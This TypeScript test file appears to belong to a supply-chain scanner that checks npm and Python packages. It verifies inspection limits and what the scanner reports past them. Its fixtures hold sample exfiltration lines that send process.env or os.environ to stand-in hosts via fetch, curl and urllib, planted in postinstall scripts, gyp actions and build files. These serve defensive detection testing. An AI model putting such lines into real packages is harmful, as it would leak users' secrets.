import t from 'tap'
import type { ContentFacts } from '../../src/model/fact.ts'
import type { ReadAs } from '../../src/model/artifact.ts'
import { kindOf } from '../../src/model/artifact.ts'
import { sha256 } from '../../src/model/digest.ts'
import { offeredModules } from '../../src/ecosystems/npm/package/entries.ts'
import { readNpmManifest } from '../../src/ecosystems/npm/package/manifest.ts'
import { packagesIn } from '../../src/ecosystems/npm/package/packages.ts'
import { inspect } from '../../src/inspection/inspect.ts'
import { readingOf } from './python-reading.ts'

type Files = Readonly<Record<string, string>>

const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
const SEND = `node -e "fetch('https://c.example/' + JSON.stringify(process.env))"`
const PIPE = 'env | curl -d @- https://c.example'
const PYTHON_SENDS =
  'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'

/** `count` members, of which the last one is `last`. */
function listed<T>(count: number, one: (at: number) => T, last: T): T[] {
  return Array.from({ length: count }, (_, at) => (at === count - 1 ? last : one(at)))
}

const named = (names: readonly string[], contents: readonly string[]): Files =>
  Object.fromEntries(names.map((name, at) => [name, contents[at] ?? '']))

async function inspected(readAs: ReadAs, files: Files): Promise<ContentFacts> {
  return inspect(readingOf(kindOf(readAs), files), { digest: sha256('x'), readAs })
}

const npm = (manifest: object, files: Files = {}): Promise<ContentFacts> =>
  inspected('npm-tarball', {
    'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }),
    ...files,
  })

/** Scripts that start one another, of which the last one sends. */
function started(count: number): object {
  const scripts = listed(count, (at) => `npm run s${at + 1}`, SEND).map((command, at) => [`s${at}`, command] as const)
  return { scripts: Object.fromEntries([['postinstall', 'npm run s0'], ...scripts]) }
}

function workspaces(count: number): Promise<ContentFacts> {
  const scripts = listed(count, () => 'true', SEND).map((x) => JSON.stringify({ scripts: { x } }))
  const names = scripts.map((_, at) => `p${String(at).padStart(4, '0')}/package.json`)
  return npm({ scripts: { postinstall: 'npm run x --workspaces' }, workspaces: ['*'] }, named(names, scripts))
}

function gyp(actions: readonly string[], expansions: readonly string[]): Promise<ContentFacts> {
  const targets = actions.map((action, at) => ({
    target_name: `t${at}`,
    actions: [{ action_name: 'a', inputs: [], outputs: [], action: ['sh', '-c', action] }],
  }))
  const sources = expansions.map((command) => `<!(${command})`)
  return npm({}, { 'binding.gyp': JSON.stringify({ targets: [...targets, { target_name: 'x', sources }] }) })
}

function conditions(count: number): Promise<ContentFacts> {
  const names = listed(count, (at) => `f${at}.txt`, 'last.txt')
  const exports = Object.fromEntries(names.map((name, at) => [`c${at}`, `./${name}`]))
  return npm(
    { exports },
    named(
      names,
      listed(count, () => '1\n', SENDS),
    ),
  )
}

function guessed(count: number): Promise<ContentFacts> {
  const names = listed(count, (at) => `l/f${String(at).padStart(4, '0')}.txt`, 'l/fz.txt')
  const loads = { 'index.js': 'require(`./l/f${process.argv[2]}.txt`)' }
  return npm({}, { ...loads, ...Object.fromEntries(names.map((name, at) => [name, at === count - 1 ? SENDS : '1\n'])) })
}

function nested(depth: number): Promise<ContentFacts> {
  let exports: unknown = './f.txt'
  for (let at = 0; at < depth; at += 1) exports = { node: exports }
  return npm({ exports }, { 'f.txt': SENDS })
}

/** The command is behind so many characters. */
const long = (length: number): Promise<ContentFacts> =>
  npm({ scripts: { postinstall: `${'true; '.repeat(Math.floor(length / 6)).padEnd(length)}${PIPE}` } })

/** A script that gives code to interpreters, of which the last sends. */
const giving = (count: number, name: string, line: (command: string) => string): Promise<ContentFacts> =>
  npm(
    { scripts: { postinstall: name.endsWith('.sh') ? `sh ${name}` : `node ${name}` } },
    {
      [name]: `${listed(count, (at) => `node -e "console.log(${at})"`, SEND)
        .map(line)
        .join('\n')}\n`,
    },
  )

const inJavascript = (count: number): Promise<ContentFacts> =>
  giving(count, 'x.js', (command) => `require('child_process').execSync(${JSON.stringify(command)})`)

function alternatives(count: number): Promise<ContentFacts> {
  const commands = JSON.stringify(listed(count, (at) => `echo ${at}`, PIPE))
  return npm(
    { scripts: { postinstall: 'node x.js' } },
    { 'x.js': `for (const command of ${commands}) require('child_process').execSync(command)` },
  )
}

/** A command within commands of a command. */
function within(count: number): Promise<ContentFacts> {
  const command = Array.from({ length: count }).reduce<string>((inner) => `echo $(${inner})`, PIPE)
  return npm(
    { scripts: { postinstall: 'node x.js' } },
    { 'x.js': `require('child_process').execSync(${JSON.stringify(command)})` },
  )
}

const inShell = (count: number): Promise<ContentFacts> => giving(count, 'x.sh', (command) => command)

const onOneLine = (count: number): Promise<ContentFacts> =>
  npm({ scripts: { postinstall: listed(count, (at) => `node -e "console.log(${at})"`, SEND).join(' && ') } })

function starting(count: number): Promise<ContentFacts> {
  const script = listed(count, (at) => `node a${at}.js`, 'sh y.txt').join('\n')
  return npm({ scripts: { postinstall: 'sh x.sh' } }, { 'x.sh': `${script}\n`, 'y.txt': PIPE })
}

function importing(count: number): Promise<ContentFacts> {
  const imports = listed(count, (at) => `import m${at}`, 'import y').join('\n')
  const files = { 'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n', 'y.py': PYTHON_SENDS }
  return inspected('sdist-gzip', { ...files, 'setup.py': `${imports}\n` })
}

function loading(count: number): Promise<ContentFacts> {
  const loads = listed(count, (at) => `require('./m${at}')`, `require('./y.txt')`).join('\n')
  return npm({ scripts: { postinstall: 'node x.js' } }, { 'x.js': loads, 'y.txt': SENDS })
}

const settings = (texts: readonly string[]): Promise<ContentFacts> =>
  npm({ scripts: { postinstall: 'deno task x' } }, { 'deno.json': JSON.stringify(texts) })

/** How many are followed or read, and what is told of one more: never nothing. */
const TABLE: readonly (readonly [
  situation: string,
  limit: number,
  make: (count: number) => Promise<ContentFacts>,
  beyond: 'found' | 'opaque-program' | 'not-examined' | 'check-failed',
])[] = [
  ['scripts that start one another', 9, (count) => npm(started(count)), 'opaque-program'],
  ['packages in folders', 500, workspaces, 'opaque-program'],
  [
    'actions of a build',
    200,
    (count) =>
      gyp(
        listed(count, () => 'true', PIPE),
        [],
      ),
    'opaque-program',
  ],
  [
    'commands in values of a build',
    200,
    (count) =>
      gyp(
        [],
        listed(count, (at) => `node t${at}.js`, PIPE),
      ),
    'opaque-program',
  ],
  ['a long command', 20_000 - PIPE.length, long, 'opaque-program'],
  ['files that one name stands for', 300, conditions, 'not-examined'],
  ['files that a name may stand for', 300, guessed, 'not-examined'],
  ['code that JavaScript gives to interpreters', 40, inJavascript, 'check-failed'],
  ['commands that one expression may be', 19, alternatives, 'check-failed'],
  ['commands in commands of a program', 20, within, 'check-failed'],
  ['code that a script of a shell gives to them', 40, inShell, 'check-failed'],
  ['code that a command gives to them', 40, onOneLine, 'opaque-program'],
  ['programs that a script of a shell starts', 200, starting, 'found'],
  ['modules that a build imports', 3000, importing, 'check-failed'],
  ['modules that a script loads', 16_000, loading, 'check-failed'],
  ['conditions in one another', 40, nested, 'found'],
  [
    'texts of a file of settings',
    500,
    (count) => settings(listed(count, (at) => `echo ${at}`, SEND)),
    'opaque-program',
  ],
  ['the length of one of them', 4000, (units) => settings([`${SEND} #`.padEnd(units, 'x')]), 'opaque-program'],
]

const sends = ({ findings }: ContentFacts): boolean =>
  findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical')

/** Checks that found what may be refused. */
const told = ({ findings }: ContentFacts): readonly string[] =>
  findings.filter(({ severity }) => severity !== 'low' && severity !== 'info').map(({ check }) => check)

const UNREAD: ReadonlySet<string> = new Set(['opaque-program', 'not-examined', 'check-failed'])

t.test('what is beyond a limit of the way through a package is told of', async (t) => {
  for (const [situation, limit, make, beyond] of TABLE) {
    const [within, over] = [await make(limit), await make(limit + 1)]
    t.ok(sends(within), `${situation}: ${limit}`)
    t.notOk(
      told(within).some((check) => UNREAD.has(check)),
      `${situation}: all read`,
    )
    if (beyond === 'found') t.ok(sends(over), `${situation}: one more`)
    else t.ok(told(over).includes(beyond), `${situation}: one more is told of`)
  }
})

function offered(patterns: number, files: number): number | undefined {
  const exports = Object.fromEntries(Array.from({ length: patterns }, (_, at) => [`./p${at}/*`, `./p${at}/*.txt`]))
  const paths = Array.from({ length: files }, (_, at) => `p0/${at}.txt`)
  const manifest = readNpmManifest(readingOf('npm-tarball', { 'package.json': JSON.stringify({ exports }) }))
  return manifest === undefined ? undefined : offeredModules(manifest, [...paths, 'other.txt']).length
}

t.test('of files that patterns of exports offer, all are looked at', async (t) => {
  t.equal(offered(1, 1000), 1000)
  t.equal(offered(300, 1), 1)
  t.equal(offered(301, 1), 2, 'of more patterns than are told apart, every file may be meant')
})

const bundled = (last: object, count: number): Files =>
  Object.fromEntries(
    listed<object>(count, () => ({}), last).map((more, at) => [
      `node_modules/p${String(at).padStart(5, '0')}/package.json`,
      JSON.stringify({ name: 'p', version: '1.0.0', ...more }),
    ]),
  )

t.test('of more bundled packages than are looked at, those are that run or fetch something', async (t) => {
  const table: readonly [situation: string, last: object, count: number, found: boolean][] = [
    ['as many as are looked at', {}, 2000, true],
    ['one more', {}, 2001, false],
    ['one more, which runs a script', { scripts: { postinstall: 'node x.js' } }, 2001, true],
    ['one more, which is fetched around the registry', { dependencies: { x: 'git+ssh://git.example/x' } }, 2001, true],
    ['one more, with versions of others', { dependencies: { '@a/x': '^1.0.0' } }, 2001, false],
  ]
  for (const [situation, last, count, found] of table) {
    const reading = readingOf('npm-tarball', { 'package.json': '{"name":"sample"}', ...bundled(last, count) })
    t.equal(packagesIn(reading).length, found ? count + 1 : count, situation)
  }
})

/** A project that says what its build runs or fetches, behind so many bytes. */
const DECLARED: readonly (readonly [file: string, text: string, remark: string, more: Files, check: string])[] = [
  [
    'pyproject.toml',
    '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n',
    '# ',
    { 'own.py': PYTHON_SENDS },
    'secrets-exfiltration',
  ],
  ['setup.cfg', '[metadata]\nversion = attr: own.v\n', '# ', { 'own.py': PYTHON_SENDS }, 'secrets-exfiltration'],
  ['setup.cfg', '[options]\nsetup_requires =\n  x @ https://c.invalid/x.tgz\n', '# ', {}, 'direct-dependencies'],
]

t.test('what says how an sdist is built is read up to so many bytes, and told of where it is longer', async (t) => {
  const most = 4_000_000
  for (const [file, text, remark, more, check] of DECLARED) {
    const sdist = (bytes: number): Promise<ContentFacts> =>
      inspected('sdist-gzip', {
        'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
        'setup.py': 'from setuptools import setup\nsetup()\n',
        [file]: `${text}${remark}`.padEnd(bytes - 1, 'x').concat('\n'),
        ...more,
      })
    const [within, over] = [await sdist(most), await sdist(most + 1)]
    t.ok(told(within).includes(check), `${file}: ${check}`)
    t.notOk(told(within).includes('unreadable-manifest'), file)
    t.ok(told(over).includes('unreadable-manifest'), `${file}: one byte more`)
  }
})

t.test('what is no TOML is told of, and no wheel is asked for it', async (t) => {
  const files = {
    'pyproject.toml': '[build-system\n',
    'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
  }
  const { findings } = await inspected('sdist-gzip', files)
  t.match(
    findings.filter(({ check }) => check === 'unreadable-manifest'),
    [{ severity: 'medium', message: /^pyproject.toml does not parse/ }],
  )
  t.notOk(told(await inspected('wheel', files)).includes('unreadable-manifest'))
})
